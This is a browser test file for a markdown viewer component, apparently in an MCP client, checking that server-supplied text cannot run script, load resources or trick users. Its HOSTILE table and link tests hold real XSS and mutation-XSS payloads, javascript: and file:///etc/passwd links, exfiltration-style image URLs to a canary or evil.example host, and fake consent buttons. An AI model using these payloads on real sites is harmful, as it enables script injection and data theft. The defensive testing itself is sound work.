/** mcp-markdown-view: formatted text of a server that asks for nothing and runs nothing (attacks D.3). */
import { expect, fixture, html } from "@open-wc/testing";
import "../../../../components/parts/viewers/markdown-view.js";
import type { McpMarkdownView } from "../../../../components/parts/viewers/markdown-view.js";
import type { LoadText } from "../../../../components/parts/basic/text-view.js";
import { CANARY, expectNoStall, expectQuiet, until } from "./canary.js";
import { inside } from "../../views/stage.js";

async function show(text: string, more: { serverUrl?: string; loadText?: LoadText } = {}): Promise<McpMarkdownView> {
  return fixture<McpMarkdownView>(
    html`<mcp-markdown-view
      .text=${{ head: text.slice(0, 16_384), length: text.length }}
      .loadText=${more.loadText ?? ((from: number, to: number) => Promise.resolve(text.slice(from, to)))}
      .serverUrl=${more.serverUrl}
    ></mcp-markdown-view>`,
  );
}
const content = (element: McpMarkdownView): Element => {
  return inside(element, ".content");
};

describe("mcp-markdown-view", () => {
  it("is accessible, and shows headings, lists, tables, quotes and code", async () => {
    const element = await show(
      "# Birds\n\nA **bold** _word_ and `code`.\n\n- one\n- [x] two\n\n> said\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```js\nlet a = 1;\n```\n",
    );
    await expect(element).to.be.accessible();
    for (const tag of ["h1", "strong", "em", "p > code", "li", "blockquote", ".table td", "pre code"]) {
      expect(content(element).querySelector(tag), tag).not.to.equal(null);
    }
    expect(content(element).textContent).to.contain("☑ two");
  });

  it("says when there is nothing", async () => {
    const element = await show("");
    expect(element.renderRoot.textContent).to.contain("Empty text.");
    await expect(element).to.be.accessible();
  });

  it("colours code of a language it knows, and changes none of it", async () => {
    const element = await show('```json\n{"a": 1}\n```\n\n```klingon\nqapla\n```\n');
    await until(() => content(element).querySelector(".hl-key") !== null);
    expect([...content(element).querySelectorAll("pre")].map((pre) => pre.textContent)).to.deep.equal([
      '{"a": 1}',
      "qapla",
    ]);
  });

  it("shows frontmatter as code, and makes no heading of it", async () => {
    const element = await show("---\nname: notes\ntags: [a]\n---\n\n# Notes\n");
    expect(content(element).querySelector("pre")?.textContent?.trim()).to.equal("name: notes\ntags: [a]");
    expect([...content(element).querySelectorAll("h1, h2")].map((one) => one.textContent)).to.deep.equal(["Notes"]);
    // A rule that is followed by text, and a rule at the end, are no frontmatter.
    for (const text of ["---\n\nA line\n\n---\n", "---\nname: x\n", "text\n---\nname: x\n---\n"])
      expect(content(await show(text)).querySelector("pre"), text).to.equal(null);
    const fenced = await show("---\na: ~~~~~~~~\n---\n");
    expect(content(fenced).textContent).to.contain("a:");
  });

  it("shows its children until it is defined", async () => {
    const element = await fixture(html`<mcp-markdown-unknown>plain</mcp-markdown-unknown>`);
    expect(element.textContent).to.equal("plain");
    const known = await show("x");
    expect(known.renderRoot.querySelector("slot")).to.equal(null);
  });
});

describe("links of formatted text", () => {
  it("open elsewhere, without a way back", async () => {
    const element = await show("[docs](https://docs.example/a) and mailto:me@example.org");
    const link = content(element).querySelector("a");
    expect(link?.href).to.equal("https://docs.example/a");
    expect([link?.target, link?.rel, link?.referrerPolicy]).to.deep.equal([
      "_blank",
      "noopener noreferrer nofollow",
      "no-referrer",
    ]);
  });

  it("are only text unless they are absolute http, https or mailto addresses", async () => {
    const addresses = [
      "data:text/html,<script>__pwned=1</script>",
      "vbscript:x",
      "blob:https://a.example/1",
      "file:///etc/passwd",
      "javascript:__pwned=1",
      "java\tscript:__pwned=1",
      "//evil.example/x",
      "/x",
      "#x",
      "x",
      "ms-msdt:/id",
      "https:evil.example",
    ];
    const text = addresses.map((to) => `[word](<${to}>)\n\n<a href="${to}">word</a>`).join("\n\n");
    const element = await show(text);
    expect(content(element).querySelectorAll("a, button.link").length).to.equal(0);
    expect(content(element).textContent?.match(/word/g)?.length).to.be.above(12);
    await expectQuiet();
  });

  it("that show one address and lead to another show the real one and prompt first", async () => {
    const element = await show('<a href="https://bank.example/" title="x">https://paypal.com</a>');
    expect(content(element).textContent).to.contain("bank.example");
    expect(content(element).querySelector("a")).to.equal(null);
    content(element).querySelector<HTMLElement>("button.link")?.click();
    await element.updateComplete;
    const question = element.renderRoot.querySelector(".requested");
    expect(question?.querySelector("a")?.href).to.equal("https://bank.example/");
    expect(question?.querySelector("strong")?.textContent).to.equal("bank.example");
    await expect(element).to.be.accessible();
    question?.dispatchEvent(new KeyboardEvent("keydown", { key: "Escape", bubbles: true }));
    await element.updateComplete;
    expect(element.renderRoot.querySelector(".requested")).to.equal(null);
  });

  it("with look-alike letters show their technical name; with a name and password they are only text", async () => {
    const element = await show(
      "[a](https://xn--pple-43d.com/) [b](https://аррӏе.com/) [c](https://user:pass@evil.example/)",
    );
    expect(content(element).textContent).to.contain("xn--pple-43d.com").and.to.contain("xn--80ak6aa92e.com");
    expect(content(element).querySelectorAll("button.link").length).to.equal(2);
    expect(content(element).querySelector("a")).to.equal(null);
  });

  it("that carry much data prompt first", async () => {
    const element = await show(`[a](https://a.example/?q=${"x".repeat(300)})`);
    content(element).querySelector<HTMLElement>("button.link")?.click();
    await element.updateComplete;
    expect(element.renderRoot.querySelector(".requested")?.textContent).to.contain("a lot of data");
  });
});

describe("pictures of formatted text", () => {
  it("are chips with their host and load nothing", async () => {
    const element = await show(`![x](${CANARY}/exfil?d=SECRET) ![y](https://evil.example/a.png)`);
    expect(content(element).querySelector("img")).to.equal(null);
    expect(content(element).querySelector(".chip")?.textContent).to.contain(location.host);
    await expect(element).to.be.accessible();
    await expectQuiet();
  });

  it("can be loaded only over https from the server's own origin", async () => {
    const serverUrl = "https://own.example/mcp";
    const element = await show(
      "![a](https://own.example/a.png) ![b](http://own.example/b.png) ![c](https://own.example:444/c.png)",
      { serverUrl },
    );
    const buttons = [...content(element).querySelectorAll(".chip button")].map((button) => button.textContent);
    expect(buttons).to.deep.equal(["Load image", "Copy URL", "Copy URL"]);
  });
});

/** Each with the place of a canary. */
const HOSTILE: Readonly<Record<string, string>> = {
  "41 image": "<img src=x onerror=__pwned=1>",
  "41 svg": "<svg onload=__pwned=1></svg>",
  "41 details": "<details open ontoggle=__pwned=1>x</details>",
  "41 marquee": "<marquee onstart=__pwned=1>x</marquee>",
  "46 div": `<div style="background:url(${CANARY}/1)">x</div>`,
  "46 table": `<table background="${CANARY}/2"><tr><td>x</td></tr></table>`,
  "46 body": `<body background="${CANARY}/3">`,
  "46 input": `<input type=image src="${CANARY}/4">`,
  "47 link": `<link rel=stylesheet href="${CANARY}/5"><link rel=dns-prefetch href="//evil.example"><link rel=preconnect href="//evil.example">`,
  "47 meta": `<meta http-equiv=refresh content="0;url=${CANARY}/6">`,
  "47 base": `<base href="${CANARY}/7">`,
  "49 iframe": '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
  "49 object": `<object data="${CANARY}/8"></object><embed src="${CANARY}/9">`,
  "50 template": "<template shadowrootmode=open><script>__pwned=1</script></template>",
  "50 slot": "<slot name=x></slot><x-mcp-panel server=y></x-mcp-panel><dialog open>Approve</dialog><p popover>x</p>",
  "52 overlay": '<p style="position:fixed;inset:0;z-index:99999">Approve</p>',
  "53 mutation":
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=__pwned=1&gt;">',
  "59 look-alike": "<mcp-consent><button onclick=__pwned=1>Allow</button></mcp-consent>",
  video: `<video poster="${CANARY}/10" src="${CANARY}/11"></video><audio src="${CANARY}/12"></audio>`,
  srcset: `<img srcset="${CANARY}/13 1x"><picture><source srcset="${CANARY}/14"></picture>`,
  form: `<form action="${CANARY}/15"><button>go</button></form>`,
  "38 mutation": '<svg></p><style><a id="</style><img src=1 onerror=__pwned=1>">',
};

describe("hostile markup in formatted text", () => {
  for (const [name, markup] of Object.entries(HOSTILE)) {
    it(`neither runs nor requests anything: ${name}`, async () => {
      const element = await show(`Before\n\n${markup}\n\n**after**`);
      const box = content(element);
      const kinds =
        "img,svg,math,details,marquee,input,link,meta,base,iframe,object,embed,template,slot,dialog,style,script,video,audio,source,form,[popover],[style],[class]:not(.piece,.table),[id]";
      expect([...box.querySelectorAll(kinds)].map(({ localName }) => localName)).to.deep.equal([]);
      expect([...box.querySelectorAll("*")].filter(({ localName }) => localName.includes("-"))).to.deep.equal([]);
      await expectQuiet();
    });
  }

  it("can't reach out of its box", async () => {
    const style = getComputedStyle(content(await show('<p style="position:fixed;inset:0">x</p>')));
    expect(style.contain).to.be.oneOf(["content", "layout style paint"]); // the same; Firefox spells it out
    expect(style.overflow).to.equal("clip");
    expect(style.isolation).to.equal("isolate");
  });

  it("has its hidden characters spelled out, also those written as entities", async () => {
    const element = await show("a\u202eb &#x202e;c **\u001b[2J** <b title='&#x202e;'>t</b> `\u200b`");
    const text = content(element).textContent ?? "";
    expect(text).to.contain("⟦U+202E⟧b").and.to.contain("⟦U+202E⟧c").and.to.contain("␛[2J").and.to.contain("⟦U+200B⟧");
    expect(content(element).querySelector("b")?.title).to.equal("⟦U+202E⟧");
  });

  it("works where scripts and styles need Trusted Types", async function () {
    const frame = await fixture<HTMLIFrameElement>(html`<iframe title="strict"></iframe>`);
    const policy = `script-src ${location.origin} 'unsafe-inline'; style-src 'none'; require-trusted-types-for 'script'; trusted-types lit-html dompurify`;
    const done = new Promise<{ text?: string; fault?: string }>((resolve) => {
      window.addEventListener("message", ({ data, source }) => {
        if (source === frame.contentWindow && typeof data === "object") resolve(data as { text?: string });
      });
    });
    frame.srcdoc = `<meta http-equiv="Content-Security-Policy" content="${policy}"><body><script type="module">
      addEventListener("securitypolicyviolation", (e) => parent.postMessage({ fault: e.violatedDirective }, "*"));
      import("${location.origin}/components/parts/viewers/markdown-view.ts").then(async () => {
        const view = document.createElement("mcp-markdown-view");
        view.text = { head: "**trusted** <b onclick=x>text</b>", length: 33 };
        document.body.append(view);
        await view.updateComplete;
        parent.postMessage({ text: view.shadowRoot.querySelector(".content").innerHTML }, "*");
      }, (e) => parent.postMessage({ fault: String(e) }, "*"));
    </script>`;
    const reported = await done;
    expect(reported.fault).to.equal(undefined);
    expect(reported.text).to.contain("<strong>trusted</strong> <b>text</b>");
  });
});

describe("long and intricate formatted text", () => {
  const mega = (unit: string): string => unit.repeat(Math.ceil(1_048_576 / unit.length));
  const CASES: Readonly<Record<string, string>> = {
    "1 MiB of brackets": mega("["),
    "100,000 quotes inside each other": "> ".repeat(100_000),
    "50,000 marks of emphasis": "*a ".repeat(50_000),
    "a table row of 10,000 cells": `${"|a".repeat(10_000)}|\n${"|-".repeat(10_000)}|\n${`${"|b".repeat(10_000)}|\n`.repeat(3)}`,
    "1 MiB of tags": mega("<b>"),
    "1 MiB of small paragraphs": mega("word\n\n"),
    "lists inside each other": Array.from({ length: 400 }, (_, n) => `${" ".repeat(n * 2)}- a`).join("\n"),
    "tables without end": mega("]|a|b|\n|-|-|\n"),
  };
  for (const [name, text] of Object.entries(CASES)) {
    it(`does not hold up the page: ${name}`, async () => {
      let element: McpMarkdownView | undefined;
      await expectNoStall(async () => {
        element = await show(text);
        await until(() => element && content(element).childElementCount > 0);
      });
      expect(element && content(element).textContent?.length).to.be.above(100);
    });
  }

  it("shows the beginning, and all on demand", async () => {
    const text = Array.from({ length: 9_000 }, (_, n) => `Paragraph ${n}`).join("\n\n");
    const element = await show(text);
    await until(() => content(element).textContent?.includes("Paragraph 3000"));
    expect(content(element).textContent).not.to.contain("Paragraph 8999");
    element.renderRoot.querySelector<HTMLElement>(".row button")?.click();
    await until(() => content(element).textContent?.includes("Paragraph 8999"));
  });

  it("says when the rest can't be loaded, with the beginning shown", async () => {
    const element = await show("word ".repeat(10_000), { loadText: () => Promise.reject(new Error("released")) });
    await until(() => element.renderRoot.querySelector(".problem") !== null);
    expect(content(element).textContent).to.contain("word word");
  });
});
